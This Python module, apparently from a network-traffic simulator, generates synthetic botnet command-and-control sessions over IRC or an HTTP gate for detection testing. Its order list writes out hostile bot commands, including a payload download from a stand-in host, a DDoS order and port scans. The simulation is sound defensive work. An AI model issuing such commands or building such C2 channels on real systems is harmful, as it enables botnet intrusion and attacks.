"""Bots: several infected machines that wait for the orders of one server."""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Literal

from infraspectre.simulation.activities import names, secure
from infraspectre.simulation.activities.shares import PROGRAM_START
from infraspectre.simulation.capture import Behaviour
from infraspectre.simulation.drawing import word
from infraspectre.simulation.hosts import Host
from infraspectre.simulation.protocols import http
from infraspectre.simulation.scenarios.background import lively_site, moments
from infraspectre.simulation.site import Site

Channel = Literal["irc", "ircs", "http"]
TECHNIQUES = {"irc": ("T1071",), "ircs": ("T1071", "T1573.002"), "http": ("T1071.001", "T1105")}
PORTS = {"irc": 6667, "ircs": 6697, "http": 80}
MASTER = "irc.0wned-net.example"
ORDERS = (
    "!scan 445",
    "!update",
    "!status",
    "!ddos http 203.0.113.80 60",
    "!download http://x.example/a.bin",
    "!sleep 600",
)
TOOL_BYTES = 40_000


@dataclass(frozen=True)
class Herd:
    """Says where bots wait for orders, and how often they hear something."""

    channel: Channel = "irc"
    master: str = MASTER
    port: int = 0
    """Port of the master; 0 for the usual one of the channel."""
    ping_s: float = 90.0
    """Time between two signs of life."""
    order_s: float = 600.0
    """Mean time between two orders."""

    def play(self, site: Site, rng: random.Random, victims: list[Host], begin_s: float, end_s: float) -> Behaviour:
        """Let every bot join one after the other, and obey until the end of the span."""
        master = site.outside(self.master, "control server")
        ips = [each.ip for each in victims]
        behaviour = Behaviour(
            f"{self.channel} bots", "bot", TECHNIQUES[self.channel], ips, ips, [master.ip],
            parameters={"ping_s": self.ping_s, "order_s": self.order_s, "bots": len(victims)},
        )  # fmt: skip
        orders = list(moments(rng, end_s, self.order_s, begin_s))
        with site.behaving(behaviour):
            for victim in victims:
                start = rng.uniform(begin_s, begin_s + (end_s - begin_s) * 0.2)
                obey = self._ask_for_orders if self.channel == "http" else self._chat
                obey(site, rng, victim, master, orders, names.resolve(site, victim, master, start), end_s)
        return behaviour

    def _chat(
        self, site: Site, rng: random.Random, victim: Host, master: Host, orders: list[float], at: float, end_s: float
    ) -> None:
        """Join a channel and answer pings and orders (RFC 1459)."""
        line = secure.Line(site, victim, master, self.port or PORTS[self.channel], at, self.channel == "ircs")
        nick, room = f"{word(rng, 2)}{rng.randrange(1000, 9999)}", f"#{word(rng, 2)}"
        line.up(f"NICK {nick}\r\nUSER {nick} 0 * :{nick}\r\n".encode())
        line.down(f":{master.name} 001 {nick} :Welcome\r\n".encode())
        line.up(f"JOIN {room}\r\n".encode())
        line.down(f":{nick}!u@h JOIN {room}\r\n:{master.name} 353 {nick} = {room} :@boss {nick}\r\n".encode())
        pings = [(at + number * self.ping_s, False) for number in range(1, int((end_s - at) / self.ping_s))]
        told = [(order, True) for order in orders if order > line.talk.now]
        for moment, is_order in sorted(pings + told):
            line.at(moment)
            if is_order:
                line.down(f":boss!u@h PRIVMSG {room} :{rng.choice(ORDERS)}\r\n".encode())
                line.up(f"PRIVMSG {room} :[{nick}] done\r\n".encode())
            else:
                line.down(f"PING :{master.name}\r\n".encode())
                line.up(f"PONG :{master.name}\r\n".encode())
        line.talk.close(by_orig=False)

    def _ask_for_orders(
        self, site: Site, rng: random.Random, victim: Host, master: Host, orders: list[float], at: float, end_s: float
    ) -> None:
        """Report to a script on a web server, which now and then sends a program."""
        number, waiting = rng.randbytes(8).hex(), [order for order in orders if order > at]
        while at < end_s:
            talk = site.tcp(victim, master, self.port or PORTS["http"], at)
            talk.connect()
            state = f"id={number}&os=win10&up={int(at)}".encode()
            talk.request(http.request(master.name, "/panel/gate.php", "POST", "Mozilla/4.0", state))
            has_order = bool(waiting) and waiting[0] <= at
            talk.wait(0.05)
            tool = PROGRAM_START + rng.randbytes(TOOL_BYTES)
            talk.respond(http.response(200, tool if has_order else b"ok", "application/octet-stream", "Apache"))
            talk.close()
            waiting = waiting[1:] if has_order else waiting
            at += self.ping_s * rng.uniform(0.9, 1.1)


def bot(
    seed: str, *, channel: Channel = "irc", bots: int = 2, period_s: float = 20.0, hosts: int = 8,
    duration_s: float = 600.0, background: bool = True,
) -> Site:  # fmt: skip
    """Let infected workstations wait for orders of one server, in an IRC channel or by asking a web server."""
    site = lively_site(seed, hosts, duration_s, background)
    herd = Herd(channel, ping_s=period_s, order_s=120.0)
    herd.play(site, site.derived("bots"), site.clients[:bots], duration_s * 0.05, duration_s * 0.95)
    return site
